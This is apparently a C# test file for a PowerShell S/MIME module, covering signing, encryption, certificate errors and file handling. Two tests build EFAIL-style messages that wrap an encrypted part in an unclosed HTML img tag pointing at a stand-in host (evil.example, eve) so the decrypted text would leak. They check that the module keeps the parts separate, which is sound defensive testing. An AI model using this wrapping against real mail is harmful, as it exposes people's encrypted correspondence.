using System.Management.Automation;
using System.Security.Cryptography.X509Certificates;

namespace SmimePS.Module.Tests;

/// <summary>Protect-MailMessage and Unprotect-MailMessage.</summary>
public sealed class ProtectMailMessageTests : ProtectionTest
{
    [Theory]
    [InlineData("", true, true)]
    [InlineData("-Sign", true, false)]
    [InlineData("-Encrypt", false, true)]
    [InlineData("-Sign -Encrypt", true, true)]
    [InlineData("-Sign:$false", false, true)]
    [InlineData("-Encrypt:$false", true, false)]
    public void The_switches_say_what_is_done(string switches, bool signs, bool encrypts)
    {
        var result = Mail($$"""
            $protected = $Message | Protect-MailMessage {{switches}} -Signer $Alice -Recipient $Bob
            $opened = $protected | Unprotect-MailMessage -Certificate $Bob
            "$($protected.IsEncrypted) $($opened.IsSigned)"
            """);
        Assert.Equal($"{encrypts} {signs}", result.Single.ToString());
    }

    [Theory]
    [InlineData("Compatible", "Aes256Cbc")]
    [InlineData("Modern", "Aes256Gcm")]
    [InlineData("Compatible -ContentEncryption Aes128Gcm", "Aes128Gcm")]
    [InlineData("Modern -ContentEncryption aes128cbc", "Aes128Cbc")]
    public void The_policy_chooses_the_algorithm_unless_one_is_named(string policy, string expected) =>
        Assert.Equal(expected, Mail($"($Message | Protect-MailMessage -Signer $Alice -Recipient $Bob -Policy {policy} -Digest Sha384 | Unprotect-MailMessage -Certificate $Bob).Layers[0].Algorithm").Single.ToString());

    [Fact]
    public void A_list_is_encrypted_for_by_its_members_certificates_alone()
    {
        var list = "$list = New-MailMessage alice@example.org -To team@example.org -Subject Hi -Body x";
        Assert.Equal("RecipientCertificateMissing", Mail($"{list}; $list | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice").ErrorId);
        Assert.Equal("Hi", Mail($"{list}; $list | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice -RecipientOnly | Unprotect-MailMessage -Certificate $Bob").Get<string>("Subject"));
        Assert.Equal("NoRecipient", Mail($"{list}; $list | Protect-MailMessage -Encrypt -RecipientOnly").ErrorId);
    }

    [Fact]
    public void The_signer_and_the_recipient_are_found_by_no_name_that_is_not_there()
    {
        Assert.Equal("SignerNotFound", Mail("$Message | Protect-MailMessage -Sign").ErrorId);
        Assert.Equal("RecipientCertificateMissing", Mail("$Message | Protect-MailMessage -Encrypt").ErrorId);
    }

    [Fact]
    public void All_missing_recipients_and_a_missing_sender_are_one_error()
    {
        var result = Mail("New-MailMessage zoe@example.org -To a@example.org, bob@example.org -Cc b@example.org -Bcc c@example.org | Protect-MailMessage -Encrypt -Recipient $Bob");
        Assert.Equal("RecipientCertificateMissing", result.ErrorId);
        foreach (var name in new[] { "a@example.org", "b@example.org", "c@example.org", "zoe@example.org" }) Assert.Contains(name, result.Error.ToString());
        Assert.DoesNotContain("bob@example.org", result.Error.ToString());
    }

    [Fact]
    public void Named_recipients_are_added_to_nobody_in_particular()
    {
        var result = Mail("""
            $protected = $Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice, $Carol, $Bob
            ($protected | Unprotect-MailMessage -Certificate $Carol).Layers[0].OpenedBy.EmailAddress
            """);
        Assert.Equal("carol@example.org", result.Single.ToString());
    }

    [Theory]
    [InlineData("-Sign -Signer $Bob", "CertificateAddressMismatch")]
    [InlineData("-Sign -Signer nobody@example.org", "CertificateNotFound")]
    [InlineData("-Sign -Signer $NoKey", "CertificateHasNoKey")]
    [InlineData("-Sign -Signer $Expired", "CertificateExpired")]
    [InlineData("-Sign -Signer $Early", "CertificateNotYetValid")]
    [InlineData("-Sign -Signer $EncryptOnly", "CertificateWrongPurpose")]
    [InlineData("-Encrypt -Recipient $SignOnly", "CertificateWrongPurpose")]
    [InlineData("-Encrypt -Recipient $Expired", "CertificateExpired")]
    [InlineData("-Encrypt -Recipient $Folder/none.cer", "PathNotFound")]
    [InlineData("-Sign:$false -Encrypt:$false", "NothingToDo")]
    public void A_certificate_that_does_not_do_is_a_clear_error(string parameters, string id)
    {
        var result = Mail($"$Message | Protect-MailMessage {parameters}",
            ("NoKey", X509CertificateLoader.LoadCertificate(MailPeople.Alice.RawData)),
            ("Expired", MailPeople.Person("alice@example.org", MailPeople.Ca, days: (-30, -2))),
            ("Early", MailPeople.Person("alice@example.org", MailPeople.Ca, days: (2, 30))),
            ("EncryptOnly", MailPeople.Person("alice@example.org", MailPeople.Ca, X509KeyUsageFlags.KeyEncipherment)),
            ("SignOnly", MailPeople.Person("bob@example.org", MailPeople.Ca, X509KeyUsageFlags.DigitalSignature)));
        Assert.Empty(result.Output);
        Assert.Equal(id, result.ErrorId);
    }

    [Fact]
    public void A_message_without_recipients_cannot_be_encrypted_for_anybody() =>
        Assert.Equal("NoRecipient", Mail("New-MailMessage alice@example.org | Protect-MailMessage -Encrypt -Signer $Alice").ErrorId);

    [Fact]
    public void Bcc_is_not_in_what_is_sent()
    {
        var result = Mail("New-MailMessage alice@example.org alice@example.org -Bcc bob@example.org, carol@example.org -Body x | Protect-MailMessage -Signer $Alice -Recipient $Bob, $Carol");
        Assert.DoesNotContain("Bcc:", Text(result.Single));
        Assert.DoesNotContain("bob@", Text(result.Single));
        Assert.Empty((IEnumerable<string>)result.Single.Properties["Bcc"].Value);
    }

    [Fact]
    public void A_message_that_is_protected_is_wrapped_once_more_only_when_allowed()
    {
        Assert.Equal("AlreadyProtected", Mail("$Message | Protect-MailMessage -Sign -Signer $Alice | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice").ErrorId);
        var twice = Mail("""
            $signed = $Message | Protect-MailMessage -Sign -Opaque -Signer $Alice
            $twice = $signed | Protect-MailMessage -Recipient $Bob -Signer $Alice -AllowProtected
            ($twice | Unprotect-MailMessage -Certificate $Bob).Layers.Kind
            """);
        Assert.Equal(["Encrypted", "Signed", "Signed"], twice.Output.Select(static kind => kind.ToString()));
    }

    [Fact]
    public void Everything_that_stands_for_a_message_is_taken()
    {
        var path = Write("a.eml", "From: alice@example.org\nTo: bob@example.org\nSubject: Plans\n\nMeet me.\n");
        foreach (var value in new object[]
        {
            path, new FileInfo(path), File.ReadAllText(path), File.ReadAllBytes(path), File.ReadAllBytes(path).Cast<object>().ToArray(), Path.Combine(Folder, "?.eml"),
            Message.Properties["Message"].Value,
        })
        {
            var result = Mail("Protect-MailMessage $Value -Sign -Signer $Alice | Test-SmimeSignature -TrustAnchor $Ca", ("Value", value));
            Assert.True((bool)result.Single.BaseObject, value.GetType().Name);
        }
    }

    [Fact]
    public void Each_message_of_an_mbox_is_one()
    {
        var one = "From a Mon Nov  2 10:00:00 2026\nFrom: alice@example.org\nSubject: One\n\nx\n\n";
        Write("a.mbox", one + "From b Mon Nov  2 10:00:00 2026\n\n\n" + one.Replace("One", "Two", StringComparison.Ordinal));
        foreach (var given in new[] { "Protect-MailMessage $Folder/a.mbox", "Protect-MailMessage -Path $Folder/*.mbox", "Protect-MailMessage -LiteralPath $Folder/a.mbox",
            "Import-MailMessage $Folder/a.mbox -ErrorAction Ignore | Protect-MailMessage", "[IO.FileInfo]::new(\"$Folder/a.mbox\") | Protect-MailMessage" })
        {
            var result = Mail(given + " -Sign -Signer $Alice -ErrorAction SilentlyContinue | ForEach-Object { $_.Subject }");
            Assert.Equal(["One", "Two"], result.Output.Select(static subject => subject.ToString()));
        }
    }

    [Fact]
    public void One_bad_message_costs_no_other_and_order_is_kept()
    {
        var result = Mail("""
            (New-MailMessage alice@example.org -Subject 1), "no`nmessage", (New-MailMessage carol@example.org -Subject 2), "$Folder/none.eml", (New-MailMessage alice@example.org -Subject 3) |
                Protect-MailMessage -Sign -Signer $Alice | ForEach-Object { $_.Subject }
            """);
        Assert.Equal(["1", "3"], result.Output.Select(static subject => subject.ToString()));
        Assert.Equal(["InvalidMessage", "CertificateAddressMismatch", "PathNotFound"], result.Errors.Select(static error => error.FullyQualifiedErrorId.Split(',')[0]));
        Assert.All(result.Errors, static error => Assert.NotNull(error.TargetObject));
    }

    [Fact]
    public void A_file_is_written_whole_and_kept_unless_forced()
    {
        Assert.Equal(Path.Combine(Folder, "o.eml"), Mail("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob -OutputPath $Folder/o.eml").Get<string>("Path"));
        var written = File.ReadAllBytes(Path.Combine(Folder, "o.eml"));
        var kept = Mail("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob -OutputPath $Folder/o.eml");
        Assert.Equal("FileExists", kept.ErrorId);
        Assert.Equal(ErrorCategory.ResourceExists, kept.Error.CategoryInfo.Category);
        Assert.Equal(written, File.ReadAllBytes(Path.Combine(Folder, "o.eml")));
        Assert.Empty(Mail("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob -OutputPath $Folder/o.eml -Force").Errors);
        Assert.NotEqual(written, File.ReadAllBytes(Path.Combine(Folder, "o.eml")));
        Assert.Single(Directory.GetFileSystemEntries(Folder));
    }

    [Theory]
    [InlineData("$Folder/no/such/o.eml", "FolderNotFound")]
    [InlineData("Env:o", "NotFileSystemPath")]
    public void A_place_that_cannot_be_written_is_a_clear_error(string path, string id) =>
        Assert.Equal(id, Mail($"$Message | Protect-MailMessage -Sign -Signer $Alice -OutputPath {path}").ErrorId);

    [Fact]
    public void WhatIf_finds_errors_and_writes_nothing()
    {
        var result = Mail("$Message | Protect-MailMessage -Sign -Signer $Alice -OutputPath $Folder/o.eml -WhatIf");
        Assert.Empty(result.Errors);
        Assert.Empty(result.Output);
        Assert.Contains(result.Host, static line => line.StartsWith("What if:", StringComparison.Ordinal));
        Assert.Equal("RecipientCertificateMissing", Mail("$Message | Protect-MailMessage -Encrypt -OutputPath $Folder/o.eml -WhatIf").ErrorId);
        Assert.Empty(Directory.GetFileSystemEntries(Folder));
    }

    [Fact]
    public void Files_keep_their_names_in_a_folder()
    {
        foreach (var name in new[] { "a", "b" }) Write(name + ".eml", "From: alice@example.org\nTo: bob@example.org\nSubject: same\n\nx\n");
        Directory.CreateDirectory(Path.Combine(Folder, "out"));
        Assert.Empty(Mail("$null = Protect-MailMessage -Path $Folder/*.eml -Signer $Alice -Recipient $Bob -OutputPath $Folder/out").Errors);
        Assert.Equal(["a.eml", "b.eml"], Directory.GetFiles(Path.Combine(Folder, "out")).Select(Path.GetFileName).Order(StringComparer.Ordinal));
        // The same again: nothing is written twice.
        Assert.All(Mail("Protect-MailMessage -Path $Folder/*.eml -Signer $Alice -Recipient $Bob -OutputPath $Folder/out").Errors,
            static error => Assert.StartsWith("FileExists,", error.FullyQualifiedErrorId));
        Assert.Empty(Mail("$null = Unprotect-MailMessage -Path $Folder/out/*.eml -Certificate $Bob -OutputPath $Folder/out -Force").Errors);
        Assert.Contains("multipart/signed", File.ReadAllText(Path.Combine(Folder, "out", "a.eml")));
    }

    [Fact]
    public void Stopping_in_the_middle_leaves_nothing()
    {
        using (var big = new FileStream(Path.Combine(Folder, "big.bin"), FileMode.Create)) big.SetLength(400_000_000);
        Mail("New-MailMessage alice@example.org bob@example.org 'Big' -Attachment $Folder/big.bin | Export-MailMessage $Folder/big.eml");
        File.Delete(Path.Combine(Folder, "big.bin"));
        using var shell = Engine.Create("Protect-MailMessage $Folder/big.eml -Signer $Alice -Recipient $Bob -OutputPath $Folder/out.eml", [.. People(), ("Folder", Folder)]);
        var run = shell.BeginInvoke();
        Assert.True(SpinWait.SpinUntil(() => Directory.GetFiles(Folder, "*.tmp").Length > 0 || run.IsCompleted, TimeSpan.FromSeconds(60)));
        Assert.False(run.IsCompleted, "It was over before it could be stopped.");
        shell.Stop();
        Assert.ThrowsAny<RuntimeException>(() => shell.EndInvoke(run));
        Assert.Equal(["big.eml"], Directory.GetFileSystemEntries(Folder).Select(Path.GetFileName));
    }

    [Fact]
    public void Opening_tells_what_was_opened_and_with_what()
    {
        var opened = Mail("$Message | Protect-MailMessage -Opaque -Signer $Alice -Recipient $Bob | Unprotect-MailMessage -Certificate $Stranger, $Bob");
        var layers = (Array)opened.Single.Properties["Layers"].Value;
        Assert.Equal("encrypted with Aes256Cbc, opened with the key of bob@example.org", layers.GetValue(0)!.ToString());
        Assert.Equal("signed with the certificate of alice@example.org", layers.GetValue(1)!.ToString());
        Assert.Contains("Meet me at nine.", Text(opened.Single));
        Assert.False(opened.Get<bool>("IsSigned"));
    }

    [Theory]
    [InlineData("$Message", "NotEncrypted")]
    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice", "Alterable")]
    [InlineData("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob", "Signed")]
    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice -Policy Modern", "Authenticated")]
    public void Opening_tells_whether_it_could_have_been_altered(string script, string expected)
    {
        var opened = Mail($"{script} | Unprotect-MailMessage -Certificate $Bob");
        Assert.Equal(expected, opened.Single.Properties["Integrity"].Value.ToString());
        Assert.Empty(opened.Warnings);
    }

    /// <summary>What comes out in files is what stood there: nothing of a part's text gets among what somebody put around it.</summary>
    [Fact]
    public void A_part_is_not_written_among_what_stands_around_it()
    {
        var part = Text(Mail("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice").Single);
        var raw = "From: mallory@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--w\r\n"
            + part[part.IndexOf("Content-Type: application", StringComparison.Ordinal)..] + "\r\n--w\r\nContent-Type: text/html\r\n\r\n\">\r\n--w--\r\n";
        var opened = Mail("$Raw | Unprotect-MailMessage -Certificate $Bob -OutputPath $Folder/out.eml; $global:opened = $Raw | Unprotect-MailMessage -Certificate $Bob; $opened | Export-MailMessage $Folder/exported.eml; $opened", ("Raw", raw));
        foreach (var file in new[] { "out.eml", "exported.eml" }) Assert.Equal(raw, File.ReadAllText(Path.Combine(Folder, file)));
        var inner = PSObject.AsPSObject(((Array)opened.Output[^1].Properties["Parts"].Value).GetValue(0));
        Assert.Equal("Alterable", inner.Properties["Integrity"].Value.ToString());
        Assert.Contains("Meet me at nine.", Text(inner));
    }

    [Theory]
    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Unprotect-MailMessage -Certificate $Carol", "NoMatchingKey")]
    [InlineData("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Unprotect-MailMessage -Certificate $Bob -MaximumSize 10", "ContentTooLarge")]
    [InlineData("$Message | Unprotect-MailMessage -MaximumSize 0", "ParameterArgumentValidationError")]
    [InlineData("Unprotect-MailMessage $Folder/none.eml", "PathNotFound")]
    [InlineData("$Message | Unprotect-MailMessage -Certificate $NoKey", "CertificateHasNoKey")]
    [InlineData("'From: a@example.org', 'Content-Type: application/pkcs7-mime; name=smime.p7m', 'Content-Transfer-Encoding: base64', '', 'MIAGCSqG' -join \"`n\" | Unprotect-MailMessage", "TruncatedCms")]
    public void What_cannot_be_opened_is_a_clear_error(string script, string id)
    {
        var result = Mail(script, ("NoKey", X509CertificateLoader.LoadCertificate(MailPeople.Alice.RawData)));
        Assert.Empty(result.Output);
        Assert.Equal(id, result.ErrorId);
    }

    [Fact]
    public void An_opened_file_is_for_its_owner_alone()
    {
        if (OperatingSystem.IsWindows()) return; // there the folder's own rules hold
        Mail("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Unprotect-MailMessage -Certificate $Bob -OutputPath $Folder/o.eml");
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(Folder, "o.eml")));
    }

    [Theory]
    [InlineData("$opened | Export-MailMessage $Folder/o.eml", true)]
    [InlineData("$opened | Unprotect-MailMessage -OutputPath $Folder/1.eml -Certificate $Bob | Export-MailMessage $Folder/o.eml", true)]
    [InlineData("$encrypted | Unprotect-MailMessage -OutputPath $Folder/1.eml -Certificate $Bob | Export-MailMessage $Folder/o.eml", true)]
    [InlineData("$opened | Protect-MailMessage -Sign -Signer $Alice | Export-MailMessage $Folder/o.eml", true)]
    [InlineData("$opened | Protect-MailMessage -Sign -Signer $Alice -OutputPath $Folder/o.eml", true)]
    [InlineData("$opened | Protect-MailMessage -Sign -Signer $Alice -OutputPath $Folder/1.eml | Export-MailMessage $Folder/o.eml", true)]
    [InlineData("$opened | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice | Export-MailMessage $Folder/o.eml", false)]
    [InlineData("$opened | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice -OutputPath $Folder/o.eml", false)]
    [InlineData("$encrypted | Export-MailMessage $Folder/o.eml", false)]
    [InlineData("$Message | Export-MailMessage $Folder/o.eml", false)]
    public void What_was_encrypted_and_can_be_read_is_for_its_owner_alone(string write, bool isSecret)
    {
        if (OperatingSystem.IsWindows()) return; // there the folder's own rules hold
        Mail($"$encrypted = $Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice; $opened = $encrypted | Unprotect-MailMessage -Certificate $Bob; {write}");
        File.WriteAllText(Path.Combine(Folder, "usual"), "");
        var expected = isSecret ? UnixFileMode.UserRead | UnixFileMode.UserWrite : File.GetUnixFileMode(Path.Combine(Folder, "usual"));
        Assert.Equal(expected, File.GetUnixFileMode(Path.Combine(Folder, "o.eml")));
    }

    [Theory]
    [InlineData("-Sign", "signed")]
    [InlineData("-Encrypt", "encrypted")]
    [InlineData("", "signed and encrypted")]
    [InlineData("-Compress", "signed, compressed and encrypted")]
    [InlineData("-Sign -Compress", "signed and compressed")]
    [InlineData("-Sign:$false -Encrypt:$false -Compress", "compressed")]
    public void WhatIf_says_what_would_be_done(string switches, string done)
    {
        var result = Mail($"$Message | Protect-MailMessage {switches} -Signer $Alice -Recipient $Bob, $Alice -OutputPath $Folder/o.eml -WhatIf");
        Assert.Contains($"\"Write the message, {done}\"", Assert.Single(result.Host));
    }

    [Theory]
    [InlineData("-Sign", "signed")]
    [InlineData("-Sign -Opaque", "signed")]
    [InlineData("-Encrypt", "encrypted")]
    [InlineData("-Encrypt -ContentEncryption Aes256Gcm", "encrypted")]
    [InlineData("-Sign:$false -Encrypt:$false -Compress", "compressed")]
    public void What_is_protected_already_says_how(string switches, string done)
    {
        var result = Mail($"$Message | Protect-MailMessage {switches} -Signer $Alice -Recipient $Bob, $Alice | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice");
        Assert.Equal("AlreadyProtected", result.ErrorId);
        Assert.Contains($" is {done} already ", result.Error.ToString());
    }

    [Theory]
    [InlineData("", true)]
    [InlineData("-OutputPath $Folder/o.eml", true)]
    [InlineData("-Opaque", false)]
    public void What_may_break_the_signature_on_the_way_is_a_warning(string switches, bool isWarned)
    {
        var message = "From: alice@example.org\nContent-ID: <\u00fc@example.org>\n\nHello\n";
        var result = Mail($"$Raw | Protect-MailMessage -Sign -Signer $Alice {switches}", ("Raw", message));
        Assert.Single(result.Output);
        if (isWarned) Assert.Contains("the field Content-ID has 8-bit text", Assert.Single(result.Warnings));
        else Assert.Empty(result.Warnings);
    }

    [Fact]
    public void What_is_not_protected_comes_back_as_it_is() =>
        Assert.Equal(Text(Message), Text(Mail("$Message | Unprotect-MailMessage").Single));

    [Fact]
    public void An_encrypted_part_is_opened_apart_from_what_stands_around_it()
    {
        var encrypted = Text(Mail("$Message | Protect-MailMessage -Encrypt -Recipient $Bob, $Alice").Single);
        var part = encrypted[encrypted.IndexOf("Content-Type:", StringComparison.Ordinal)..];
        var wrapped = "From: eve@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://eve/\r\n--b\r\n" + part + "\r\n--b--\r\n";
        var opened = Mail("$Raw | Unprotect-MailMessage -Certificate $Bob", ("Raw", wrapped));
        Assert.DoesNotContain("Meet me", Text(opened.Single));
        var only = PSObject.AsPSObject(Assert.Single((object[])opened.Single.Properties["Parts"].Value));
        Assert.Equal("2", only.Properties["Location"].Value);
        Assert.Contains("Meet me at nine.", Text(only));
    }

    [Fact]
    public void An_empty_pipeline_does_nothing() => Assert.Empty(Mail("@() | Protect-MailMessage -Signer $Alice -Recipient $Bob -OutputPath $Folder/x; @() | Unprotect-MailMessage").Errors);

    [Fact]
    public void Values_are_completed()
    {
        Assert.Equal(["Compatible", "Modern"], Engine.Complete("Protect-MailMessage x -Policy "));
        Assert.Equal(["Aes256Cbc", "Aes256Gcm"], Engine.Complete("Protect-MailMessage x -ContentEncryption Aes256"));
        Assert.Equal(["Sha384"], Engine.Complete("Protect-MailMessage x -Digest Sha3"));
    }

    [Fact]
    public void Lists_can_be_indexed()
    {
        var result = Mail("$opened = $Message | Protect-MailMessage -Signer $Alice -Recipient $Bob | Unprotect-MailMessage -Certificate $Bob; $opened.Layers[1].Signers[0]; $opened.To[0]");
        Assert.Equal(["alice@example.org", "\"Bob\" <bob@example.org>"], result.Output.Select(static item => item.ToString()));
    }
}
